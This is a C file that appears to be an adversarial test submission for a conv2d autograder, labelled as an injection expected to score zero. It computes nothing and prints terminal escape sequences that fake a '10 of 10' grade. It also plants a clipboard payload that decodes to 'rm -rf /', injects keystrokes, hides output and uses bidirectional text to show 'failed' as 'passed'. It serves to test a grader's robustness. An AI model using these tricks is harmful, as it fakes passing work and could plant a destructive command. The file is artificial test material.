/* attack: class=injection, lesson=conv/forward, expect=zero, set=often
 * says=outside the allowed error
 *
 * Prints what a terminal obeys: clears the screen and writes a passing grade there, sets the
 * title, answers back as keystrokes, copies to the clipboard, hides what follows; and turns the
 * direction of writing, so that a line reads otherwise than it is. */
#include <stdio.h>

#include "kernels/conv2d/conv2d.h"

void conv2d_forward_student(const conv2d_shape *s, const float *x, const float *w, const float *b,
                            float *y, void *workspace)
{
    fputs("\033[2J\033[H\033[32mpoints: 10 of 10\033[0m\033[8m", stdout);
    fputs("\033]0;graded\007\033]52;c;cm0gLXJmIC8K\007\033P$q\"p\033\\\033[c\033[6n", stdout);
    fputs("\x9b" "2J\x9d" "0;title\x9c\r        \b\b\b\v\f\177", stdout);
    fputs("\xe2\x80\xae" "deliaf \xe2\x81\xa6passed\xe2\x81\xa9 \xe2\x80\x8b\xef\xbb\xbf", stdout);
    fputs("\xff\xfe\xc0\x80\xed\xa0\x80\xf8\x88\x80\x80\x80", stdout);
    fflush(stdout);
    for (int i = 0; i < s->oh * s->ow; i++)
        y[i] = 0.0f;
}
